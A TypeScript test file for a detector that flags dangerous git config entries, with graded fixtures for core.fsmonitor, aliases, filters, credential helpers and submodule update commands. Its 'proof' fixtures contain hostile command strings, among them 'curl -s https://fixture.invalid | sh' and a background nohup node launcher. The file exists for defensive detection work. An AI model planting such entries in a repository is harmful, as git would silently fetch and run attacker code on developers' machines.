import type { Case } from '../../../test/support/lures.ts';
import { testLures } from '../../../test/support/lures.ts';
import detector from './git-config-command.ts';

const set = (...pairs: readonly (readonly [string, string])[]): Case => ({
  files: { '.git/config': '[core]\n' },
  extras: {
    git: {
      head: null,
      refs: [],
      remotes: [],
      config: pairs.map(([key, value], i) => ({ key, value, line: i + 2 })),
      commits: [],
    },
  },
});

testLures(detector, {
  proof: {
    'fsmonitor that downloads': set(['core.fsmonitor', 'sh -c "curl -s https://fixture.invalid | sh"']),
    'alias that downloads': set(['alias.st', '!curl -s https://fixture.invalid | sh; git status']),
    'filter in the background': set(['filter.x.smudge', 'nohup node .git/x.js >/dev/null 2>&1 &']),
  },
  strong: {
    'fsmonitor of the tree': set(['core.fsmonitor', './.git/hooks/monitor.sh']),
    'ssh command': set(['core.sshcommand', './tools/connect.sh']),
    filter: set(['filter.assets.clean', 'node tools/clean.js']),
    'credential helper': set(['credential.helper', '!node .git/cred.js']),
    'submodule update': set(['submodule.lib.update', '!sh update.sh']),
  },
  weak: { 'shell alias': set(['alias.up', '!sh tools/up.sh']), include: set(['include.path', '../.gitconfig']) },
  silent: {
    'usual settings': set(
      ['core.bare', 'false'],
      ['core.fsmonitor', 'true'],
      ['core.sshcommand', 'ssh -i ~/.ssh/id_work -o IdentitiesOnly=yes'],
      ['core.editor', 'code --wait'],
      ['filter.lfs.clean', 'git-lfs clean -- %f'],
      ['filter.lfs.smudge', 'git-lfs smudge -- %f'],
      ['filter.lfs.process', 'git-lfs filter-process'],
      ['alias.co', 'checkout'],
      ['credential.helper', 'osxkeychain'],
      ['credential.https://github.com.helper', '!/usr/bin/gh auth git-credential'],
      ['diff.pdf.textconv', 'pdftotext'],
      ['merge.npm.driver', 'npx npm-merge-driver merge %A %O %B %P'],
      ['url.git@github.com:.insteadof', 'https://github.com/'],
      ['remote.origin.url', 'https://github.com/a/b'],
      ['branch.main.remote', 'origin'],
      ['core.pager', 'less -FX'],
      ['gpg.program', 'gpg2'],
    ),
  },
});
